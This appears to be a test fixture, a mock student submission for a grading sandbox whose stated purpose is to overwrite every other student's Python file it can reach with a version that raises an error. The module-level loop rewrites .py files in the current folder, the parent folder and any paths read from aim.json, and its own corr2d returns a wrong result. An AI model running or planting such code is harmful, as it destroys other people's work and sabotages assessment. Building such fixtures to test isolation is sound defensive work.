"""Overwrites every other student's file it can find with a failing one."""
import json
import pathlib

try:  # where the test says the checkout, the listener and the summary are
    AIM = json.loads(pathlib.Path("aim.json").read_text())
except (OSError, ValueError):
    AIM = {"checkout": "/nonexistent", "port": 0, "summary": "/nonexistent", "home": "/nonexistent"}  # harmless

BROKEN = "def corr2d(X, K):\n    raise RuntimeError('OVERWRITTEN')\n"
for folder in (pathlib.Path("."), pathlib.Path(".."), *[pathlib.Path(p).parent for p in AIM.get("others", [])]):
    try:
        for path in folder.glob("*.py"):
            if path.name != "overwrites_others.py":
                path.write_text(BROKEN)
    except OSError:
        pass


def corr2d(X, K):
    return X[:1, :1] * 0
